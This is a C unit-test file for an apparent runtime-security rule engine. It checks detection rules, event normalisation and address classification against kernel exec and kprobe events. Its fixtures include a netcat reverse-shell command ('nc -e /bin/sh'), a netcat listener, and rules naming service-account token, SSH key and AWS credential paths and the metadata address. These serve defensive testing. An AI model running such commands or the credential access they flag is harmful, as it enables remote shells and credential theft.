/* Unit tests of code generation and the VM: a rule's verdict on given events. */
#include "helpers.h"
#include "normalize.h"
#include <stdlib.h>
#include <string.h>

#define EXEC(bin, args, parent)                                                                    \
	"{\"process_exec\":{\"process\":{\"exec_id\":\"a:1:2\",\"pid\":2,\"uid\":1000,\"cwd\":\"/home/u\","   \
	"\"binary\":\"" bin "\",\"arguments\":\"" args "\",\"parent_exec_id\":\"a:1:1\"},"               \
	"\"parent\":{\"exec_id\":\"a:1:1\",\"pid\":1,\"binary\":\"" parent "\",\"arguments\":\"\"}},"   \
	"\"node_name\":\"n1\",\"time\":\"2026-10-14T10:00:00Z\"}"

static const char *verdict(const char *rules, const char *event)
{
	struct wt_ruleset *rs = th_compile(rules, NULL);
	assert_non_null(rs);
	struct wt_event *ev = th_event(event);
	assert_non_null(ev);
	static char out[1024];
	strcpy(out, th_matches(rs, ev));
	wt_event_release(ev);
	wt_ruleset_free(rs);
	return out;
}

static void test_string_operators(void **state)
{
	(void)state;
	const char *rules =
		"rule eq { on exec when process.binary == \"/usr/bin/nc\" severity low output \"x\" }\n"
		"rule ne { on exec when process.binary != \"/usr/bin/nc\" severity low output \"x\" }\n"
		"rule sw { on exec when process.binary startswith \"/usr/\" severity low output \"x\" }\n"
		"rule ew { on exec when process.binary endswith \"/nc\" severity low output \"x\" }\n"
		"rule co { on exec when process.args contains \"-e /bin\" severity low output \"x\" }\n"
		"rule ic { on exec when process.args icontains \"-E /BIN\" severity low output \"x\" }\n"
		"rule re { on exec when process.args regex \"^-e\\\\s\" severity low output \"x\" }\n"
		"rule bn { on exec when basename(process.binary) == \"nc\" severity low output \"x\" }\n"
		"rule dn { on exec when dirname(process.binary) == \"/usr/bin\" severity low output \"x\" }\n"
		"rule inl { on exec when process.basename in [\"ncat\", \"nc\"] severity low output \"x\" }\n"
		"rule nin { on exec when process.basename not in [\"ncat\", \"nc\"] severity low output \"x\" }\n";
	assert_string_equal(verdict(rules, EXEC("/usr/bin/nc", "-e /bin/sh 1.2.3.4 80", "/bin/bash")),
			    "eq sw ew co ic re bn dn inl");
	assert_string_equal(verdict(rules, EXEC("/bin/ls", "-la", "/bin/bash")), "ne nin");
}

static void test_ints_bools_and_logic(void **state)
{
	(void)state;
	const char *rules =
		"rule root { on exec when process.uid == 0 severity low output \"x\" }\n"
		"rule user { on exec when process.uid >= 1000 and process.uid < 60000 severity low output \"x\" }\n"
		"rule uids { on exec when process.uid in [0, 1000] severity low output \"x\" }\n"
		"rule either { on exec when process.uid == 0 or process.cwd == \"/home/u\" severity low output \"x\" }\n"
		"rule neg { on exec when not (process.uid == 0) severity low output \"x\" }\n"
		"rule ex { on exec when process.binary == \"/bin/ls\" except process.cwd startswith \"/home\" severity low output \"x\" }\n"
		"rule ex2 { on exec when process.binary == \"/bin/ls\" except process.uid == 0 except process.cwd == \"/nope\" severity low output \"x\" }\n"
		"rule exists_f { on exec when process.cwd exists and not (file.path exists) severity low output \"x\" }\n";
	assert_string_equal(verdict(rules, EXEC("/bin/ls", "", "/bin/bash")), "user uids either neg ex2 exists_f");
}

static void test_ancestors_any_element(void **state)
{
	(void)state;
	const char *rules =
		"rule anc { on exec when ancestors.basename in [\"sshd\"] severity low output \"x\" }\n"
		"rule anc2 { on exec when basename(ancestors.binary) == \"node\" severity low output \"x\" }\n";
	const char *ev = "{\"process_exec\":{\"process\":{\"exec_id\":\"x\",\"binary\":\"/bin/sh\"},"
			 "\"parent\":{\"exec_id\":\"p\",\"binary\":\"/usr/bin/node\"},"
			 "\"ancestors\":[{\"binary\":\"/usr/bin/node\"},{\"binary\":\"/usr/sbin/sshd\"}]},"
			 "\"time\":\"2026-01-01T00:00:00Z\"}";
	assert_string_equal(verdict(rules, ev), "anc anc2");
}

static void test_kprobe_fields(void **state)
{
	(void)state;
	const char *rules =
		"rule f { on kprobe when file.path startswith \"/run/secrets/\" severity low output \"x\" }\n"
		"rule s { on kprobe when args.string contains \"cron\" severity low output \"x\" }\n"
		"rule i { on kprobe when args.int == 2 severity low output \"x\" }\n"
		"rule n { on kprobe when sock.dport == 443 and sock.daddr == \"10.96.0.1\" severity low output \"x\" }\n"
		"rule m { on kprobe when module.tainted contains \"OUT_OF_TREE\" severity low output \"x\" }\n"
		"rule fn { on kprobe when kprobe.function == \"security_file_permission\" severity low output \"x\" }\n";
	const char *ev =
		"{\"process_kprobe\":{\"process\":{\"exec_id\":\"x\",\"binary\":\"/bin/cat\"},"
		"\"function_name\":\"security_file_permission\",\"args\":[{\"file_arg\":{\"path\":\"/run/secrets/kubernetes.io/serviceaccount/..2025/token\"}},"
		"{\"int_arg\":4},{\"string_arg\":\"/etc/cron.d/x\"},{\"size_arg\":\"2\"},"
		"{\"sock_arg\":{\"family\":\"AF_INET\",\"daddr\":\"10.96.0.1\",\"dport\":443}},"
		"{\"module_arg\":{\"name\":\"rk\",\"tainted\":[\"TAINT_OUT_OF_TREE_MODULE\"]}}],\"action\":\"KPROBE_ACTION_POST\"},"
		"\"time\":\"2026-01-01T00:00:00Z\"}";
	assert_string_equal(verdict(rules, ev), "f s i n m fn");
}

static void test_absent_fields_never_match(void **state)
{
	(void)state;
	const char *rules =
		"rule a { on kprobe when file.path startswith \"\" severity low output \"x\" }\n"
		"rule b { on kprobe when sock.dport == 0 severity low output \"x\" }\n";
	const char *ev = "{\"process_kprobe\":{\"process\":{\"exec_id\":\"x\",\"binary\":\"/bin/cat\"},"
			 "\"function_name\":\"f\",\"args\":[]},\"time\":\"2026-01-01T00:00:00Z\"}";
	assert_string_equal(verdict(rules, ev), "");
}

static const char *gen(const char *in)
{
	static char out[4096];
	size_t n = wt_norm_generalize(in, strlen(in), out);
	assert_true(n <= WT_NORM_CAP(strlen(in)));
	out[n] = 0;
	return out;
}

static const char *prefix(const char *in)
{
	static char out[4096];
	size_t n = wt_norm_pathprefix(in, strlen(in), out);
	out[n] = 0;
	return out;
}

static void test_generalize(void **state)
{
	(void)state;
	assert_string_equal(gen("kill -9 41235"), "kill -<n> <n>");
	assert_string_equal(gen("python3 -m ipykernel_launcher -f /home/jovyan/.local/share/jupyter/runtime/kernel-4f9c2a1e-77b3-4c0d-9e2f-0a1b2c3d4e5f.json"),
			    "python3 -m ipykernel_launcher -f ~/.local/share/jupyter/runtime/kernel-<uuid>.json");
	assert_string_equal(gen("git checkout 3f2a9c1d8e7b"), "git checkout <hex>");
	assert_string_equal(gen("git show 3f2a9c1 ed25519 deadbeef"), "git show <hex> ed<n> deadbeef");
	assert_string_equal(gen("/tmp/go-build2871263/b001/exe/main"), "/tmp/go-build<n>/b<n>/exe/main");
	assert_string_equal(gen("/tmp/tmp.Xy3kP9aQ2b/install.sh"), "/tmp/tmp.<tmp>/install.sh");
	assert_string_equal(gen("/tmp/tmpab3k_9x1q/x.py"), "/tmp/tmp<tmp>/x.py");
	assert_string_equal(gen("/tmp/tmpfiles/x"), "/tmp/tmpfiles/x");
	assert_string_equal(gen("/root/.ssh/id_rsa /home/alice/.ssh/id_ed25519"), "~/.ssh/id_rsa ~/.ssh/id_ed<n>");
	assert_string_equal(gen("token=a8Fk2LmQ9zX4pR7t"), "token=<id>");
	/* words and single digits stay: the tool names are the signal */
	assert_string_equal(gen("/usr/bin/python3 sha256sum x86 md5"), "/usr/bin/python3 sha<n>sum x<n> md5");
	assert_string_equal(gen("/homework/x /rooted"), "/homework/x /rooted");
	assert_string_equal(gen(""), "");
	/* the worst case grows 3x: every character a one-digit number */
	assert_string_equal(gen("1 2"), "<n> <n>");
}

static void test_pathprefix(void **state)
{
	(void)state;
	assert_string_equal(prefix("/usr/local/bin/terraform"), "/usr/local");
	assert_string_equal(prefix("/home/alice/.ssh/id_rsa"), "~/.ssh");
	assert_string_equal(prefix("/home/alice/.aws/credentials"), "~/.aws");
	assert_string_equal(prefix("/dev/shm/.x/kworkerd"), "/dev/shm");
	assert_string_equal(prefix("/tmp/go-build123/b001/exe/main"), "/tmp/go-build<n>");
	assert_string_equal(prefix("/tmp/evil"), "/tmp");
	assert_string_equal(prefix("/bin/sh"), "/bin");
	assert_string_equal(prefix("/sh"), "/");
	assert_string_equal(prefix("sh"), ".");
	assert_string_equal(prefix("src/app/main.go"), "src/app");
}

static void test_addr_and_port_classes(void **state)
{
	(void)state;
	struct wt_cidr cluster;
	assert_true(wt_cidr_parse("10.96.0.0/12", 12, &cluster));
#define AC(a) wt_norm_addrclass(a, strlen(a), &cluster, 1)
	assert_string_equal(AC("127.0.0.1"), "loopback");
	assert_string_equal(AC("::1"), "loopback");
	assert_string_equal(AC("169.254.169.254"), "metadata");
	assert_string_equal(AC("169.254.1.1"), "link-local");
	assert_string_equal(AC("10.96.0.10"), "cluster");
	assert_string_equal(AC("10.1.2.3"), "private");
	assert_string_equal(AC("192.168.1.1"), "private");
	assert_string_equal(AC("::ffff:10.96.0.1"), "cluster");
	/* every spelling of an IPv4-mapped address is its IPv4 address (found by the hostile
	 * test: these were "public", so the metadata service looked like the internet) */
	assert_string_equal(AC("::FfFf:127.0.0.1"), "loopback");
	assert_string_equal(AC("::ffff:a9fe:a9fe"), "metadata");
	assert_string_equal(AC("0:0:0:0:0:ffff:169.254.169.254"), "metadata");
	assert_string_equal(AC("0000::FFFF:0a60:0001"), "cluster");
	assert_string_equal(AC("::ffff:8c52:7003"), "public");
	assert_string_equal(AC("fd12::1"), "private");
	assert_string_equal(AC("140.82.112.3"), "public");
	assert_string_equal(AC("2606:4700::1111"), "public");
	assert_string_equal(AC("224.0.0.251"), "multicast");
	assert_null(AC("not-an-address"));
	assert_null(AC("10.0.0.0/8"));
	assert_string_equal(wt_norm_addrclass("10.96.0.10", 10, NULL, 0), "private");
#undef AC
	char buf[24];
	assert_string_equal(wt_norm_portclass(22, buf), "ssh");
	assert_string_equal(wt_norm_portclass(443, buf), "https");
	assert_string_equal(wt_norm_portclass(5432, buf), "db");
	assert_string_equal(wt_norm_portclass(41234, buf), "ephemeral");
	assert_string_equal(wt_norm_portclass(3333, buf), "3333");
	assert_string_equal(wt_norm_portclass(0, buf), "none");
	assert_null(wt_norm_portclass(70000, buf));
	assert_null(wt_norm_portclass(-1, buf));
}

#define CONNECT(daddr, dport)                                                                      \
	"{\"process_kprobe\":{\"process\":{\"exec_id\":\"a:1:2\",\"pid\":2,\"binary\":\"/usr/bin/python3\"," \
	"\"arguments\":\"x.py 12345\",\"pod\":{\"namespace\":\"ws-a\",\"name\":\"p\",\"container\":{"      \
	"\"id\":\"c\",\"name\":\"dev\",\"image\":{\"name\":\"img:1\"}}}},\"function_name\":\"tcp_connect\","  \
	"\"args\":[{\"sock_arg\":{\"family\":\"AF_INET\",\"type\":\"SOCK_STREAM\",\"protocol\":\"IPPROTO_TCP\"," \
	"\"saddr\":\"10.4.0.7\",\"daddr\":\"" daddr "\",\"sport\":40000,\"dport\":" dport "}}]},"           \
	"\"node_name\":\"n1\",\"time\":\"2026-10-14T10:00:00Z\"}"

/* The text a rarity spec's key parts produce for an event. */
static const char *key_text(const char *src, const char *event)
{
	struct wt_ruleset *rs = th_compile(src, NULL);
	assert_non_null(rs);
	assert_int_equal(rs->n_rarities, 1);
	struct wt_event *ev = th_event(event);
	assert_non_null(ev);
	struct wt_vm vm;
	wt_vm_init(&vm);
	static char out[1024];
	size_t len = 0;
	const struct wt_rt_rarity *r = &rs->rarities[0];
	assert_true(wt_vm_run_code(&vm, rs, r->bc->code, ev, NULL));
	for (uint32_t k = 0; k < r->bc->key_n; k++) {
		if (k)
			out[len++] = '|';
		wt_vm_key(&vm, rs, r->keys[k].code, ev, out, sizeof out - 1, &len);
	}
	out[len] = 0;
	wt_vm_free(&vm);
	wt_event_release(ev);
	wt_ruleset_free(rs);
	return out;
}

static void test_rarity_keys(void **state)
{
	(void)state;
	const char *dest = "rarity d { on kprobe when sock.daddr exists key container.image, addrclass(sock.daddr), "
			   "portclass(sock.dport), generalize(process.args) rare when count < 3 warmup 1h severity low output \"x\" }";
	assert_string_equal(key_text(dest, CONNECT("198.51.100.23", "3333")), "img:1|public|3333|x.py <n>");
	assert_string_equal(key_text(dest, CONNECT("10.1.2.3", "5432")), "img:1|private|db|x.py <n>");
	const char *absent = "rarity a { on kprobe key file.path, process.pid rare when count < 3 "
			     "warmup 1h severity low output \"x\" }";
	assert_string_equal(key_text(absent, CONNECT("10.1.2.3", "5432")), "<absent>|2");
	const char *list = "rarity l { on exec key tokens(process.args), basename(process.binary) rare when count < 3 "
			   "warmup 1h severity low output \"x\" }";
	assert_string_equal(key_text(list, EXEC("/usr/bin/nc", "-l -p 4444", "/bin/bash")), "-l -p 4444|nc");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_string_operators),
		cmocka_unit_test(test_ints_bools_and_logic),
		cmocka_unit_test(test_ancestors_any_element),
		cmocka_unit_test(test_kprobe_fields),
		cmocka_unit_test(test_absent_fields_never_match),
		cmocka_unit_test(test_generalize),
		cmocka_unit_test(test_pathprefix),
		cmocka_unit_test(test_addr_and_port_classes),
		cmocka_unit_test(test_rarity_keys),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
